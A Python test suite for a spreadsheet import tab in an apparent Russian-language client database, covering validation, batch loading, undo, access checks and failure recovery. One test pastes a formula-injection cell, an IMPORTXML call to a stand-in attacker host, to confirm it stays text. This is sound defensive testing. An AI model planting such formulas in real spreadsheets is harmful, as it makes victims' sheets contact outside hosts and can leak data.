"""«Импорт»: pasted rows are judged beside themselves and taken in as one act, undone as one."""

from contextlib import suppress
from datetime import timedelta

import pytest
from tests.sync.books_office import HEAD_BOOK, Shelf
from tests.sync.pasting_office import answers, choose, clients, desktop, paste, said

from kartoteka.domain.errors import ProviderDown
from kartoteka.ports import Query
from sync import books
from sync.shelf.pasted import IMPORT

__all__ = ["desktop"]
LIST = [
    ["Иван Петров", "", "", "+7 916 000-00-01", "ivan@site.example"],
    ["Без контактов"],
    ["Пётр Сомов", "", "", "8 916 000 00 02"],
    ["Он же", "", "", "89160000002"],
]


def test_pasted_rows_are_judged_beside_themselves_and_nothing_is_written(desktop: Shelf) -> None:
    paste(desktop, LIST)

    assert answers(desktop) == ["новый", "ошибка", "новый", "повтор"]
    assert "телефона" in str(desktop.there(HEAD_BOOK, IMPORT).tab.cell(3, 1))
    assert "строк: 4" in said(desktop)
    assert clients(desktop) == []
    assert "write" not in desktop.look()


def test_chosen_load_takes_the_rows_in_once_as_one_act(desktop: Shelf) -> None:
    paste(desktop, LIST)

    told = choose(desktop, "Загрузить")

    assert clients(desktop) == ["Иван Петров", "Пётр Сомов"]
    assert answers(desktop) == ["✓ новый", "ошибка", "✓ новый", "повтор"]
    assert "Загружено строк: 4" in told
    assert "уже загружены" in choose(desktop, "Загрузить")
    (batch,) = desktop.app.store.query(Query("batches"))
    assert batch.doc["state"] == "done"
    assert batch.doc["actor"]["id"] == "st_viktor"


def test_undone_load_leaves_nothing_and_may_be_repeated(desktop: Shelf) -> None:
    paste(desktop, LIST)
    choose(desktop, "Загрузить")

    told = choose(desktop, "Отменить загрузку")

    assert clients(desktop) == []
    assert "отменена" in told
    assert answers(desktop) == ["новый", "ошибка", "новый", "повтор"]
    choose(desktop, "Загрузить")
    assert clients(desktop) == ["Иван Петров", "Пётр Сомов"]


def test_cleared_tab_is_as_new(desktop: Shelf) -> None:
    before = desktop.there(HEAD_BOOK, IMPORT).tab.trimmed()
    paste(desktop, LIST)

    choose(desktop, "Очистить")

    after = desktop.there(HEAD_BOOK, IMPORT).tab.trimmed()
    assert after == before
    assert "write" not in desktop.look()


@pytest.mark.parametrize("at", [(2, 2), (4, 2)])
def test_list_with_names_of_its_own_is_read_by_them(desktop: Shelf, at: tuple[int, int]) -> None:
    rows = [["Mobile Phone", "Что-то", "Full Name"], [79160000003.0, "x", "Анна К."]]

    paste(desktop, rows, at)

    assert answers(desktop)[-1] == "новый"
    choose(desktop, "Загрузить")
    assert clients(desktop) == ["Анна К."]


def test_load_chosen_with_unseen_rows_is_only_a_check(desktop: Shelf) -> None:
    there = desktop.there(HEAD_BOOK, IMPORT)
    there.tab.put(1, 0, "Загрузить")

    paste(desktop, LIST)

    assert there.tab.cell(1, 0) == ""
    assert answers(desktop) == ["новый", "ошибка", "новый", "повтор"]
    assert clients(desktop) == []


def test_list_pasted_over_our_answers_is_left_and_said(desktop: Shelf) -> None:
    paste(desktop, [["Иван", "+79160000001"]], (2, 0))

    assert "с ячейки C3" in said(desktop)
    assert desktop.there(HEAD_BOOK, IMPORT).tab.grid[2][:2] == ["Иван", "+79160000001"]


def test_list_pasted_over_the_row_of_the_choice_is_left_and_said(desktop: Shelf) -> None:
    paste(desktop, [["ФИО", "Телефон"], ["Иван", "+79160000001"]], (0, 2))

    assert "с ячейки C3" in said(desktop)
    assert desktop.there(HEAD_BOOK, IMPORT).tab.grid[1][2:4] == ["Иван", "+79160000001"]


def test_hostile_cells_stay_text(desktop: Shelf) -> None:
    evil = '=IMPORTXML("https://evil.example","//a")'
    paste(desktop, [[evil, "", "", "+79160000001"], ["a", "", "", evil]])

    assert answers(desktop) == ["новый", "ошибка"]
    choose(desktop, "Загрузить")
    assert clients(desktop) == [evil]
    assert all(str(request).count("formulaValue") == 0 for request in desktop.sheets.requests)


def test_stranger_loads_nothing(desktop: Shelf) -> None:
    paste(desktop, LIST)
    there = desktop.there(HEAD_BOOK, IMPORT)
    there.tab.put(1, 0, "Загрузить")
    report = {"user": "x@else.example", "sheet_id": IMPORT.sheet_id, "ids": [],
              "columns": [1, 1], "rows": [2, 2], "value": None, "book": HEAD_BOOK,
              "at": "2026-11-23T06:00"}  # fmt: skip
    desktop.app.store.run(lambda tx: tx.put("sheet_edits", "ed_x", report))

    desktop.look()

    assert clients(desktop) == []
    assert "Вас нет среди сотрудников" in said(desktop)


def test_manager_has_no_such_tab(desktop: Shelf) -> None:
    memory = books.recall(desktop.app.store, "mine.st_anna")
    assert memory is not None
    assert "import" not in memory.tabs


def test_load_whose_flush_died_behind_it_is_said_and_not_repeated(desktop: Shelf) -> None:
    paste(desktop, LIST)
    died: list[str] = []

    def dies(name: str) -> None:
        if name in {"write", "structure"} and clients(desktop) and not died:
            died.append(name)
            raise ProviderDown("the process is gone")

    desktop.sheets.between = dies
    there = desktop.there(HEAD_BOOK, IMPORT)
    there.tab.put(1, 0, "Загрузить")
    there._changed()
    for _ in range(2):
        desktop.look()
    with suppress(ProviderDown):  # told to the queue, or kept with the book
        desktop.look()
    desktop.clock.advance(timedelta(minutes=10))
    desktop.look()

    assert died
    assert answers(desktop) == ["✓ новый", "ошибка", "✓ новый", "повтор"]
    assert len(list(desktop.app.store.query(Query("batches")))) == 1
    assert "Загружено строк: 4" in said(desktop)
